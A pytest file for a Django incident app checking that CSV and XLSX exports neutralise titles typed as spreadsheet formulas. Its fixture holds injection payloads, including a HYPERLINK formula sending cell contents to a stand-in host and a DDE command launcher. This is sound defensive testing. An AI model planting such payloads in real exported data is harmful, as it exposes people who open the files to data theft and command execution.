"""A title typed as a spreadsheet formula stays text in every export."""

import csv
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from incidents.reports.formulas import spreadsheet_safe

from .test_metrics import NOW

pytestmark = pytest.mark.django_db

QUERY = {"date_from": "2026-11-01", "date_to": "2026-11-30"}
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2,"details")'


@pytest.fixture
def booby_trapped(make_incident, make_user):
    titles = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
    for index, title in enumerate(titles):
        make_incident("P2", declared=f"2026-11-0{index + 2} 10:00", title=title)
    return titles


def _download(client, user, name):
    client.force_login(user)
    with time_machine.travel(NOW, tick=False):
        response = client.get(reverse(f"reports:{name}"), QUERY)
        return b"".join(response.streaming_content)


def test_csv_cells_that_would_be_formulas_are_written_as_text(client, manager, booby_trapped):
    rows = list(csv.DictReader(io.StringIO(_download(client, manager, "export_csv")
                                           .decode("utf-8-sig"), newline="")))
    assert sorted(row["Title"] for row in rows) == sorted("'" + t for t in booby_trapped)


def test_xlsx_title_cells_are_strings_never_formulas(client, manager, booby_trapped):
    workbook = load_workbook(io.BytesIO(_download(client, manager, "export_xlsx")))
    sheet = workbook["Incidents"]
    header = [cell.value for cell in sheet[1]]
    titles = [row[header.index("Title")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in titles} == {"s"}
    # XLSX stores line ends as "\n".
    assert sorted(cell.value for cell in titles) == sorted(
        "'" + t.replace("\r", "\n") for t in booby_trapped)


def test_ordinary_values_are_left_alone():
    assert spreadsheet_safe("Checkout returns 500") == "Checkout returns 500"
    assert spreadsheet_safe(-3.5) == -3.5
    assert spreadsheet_safe(None) is None
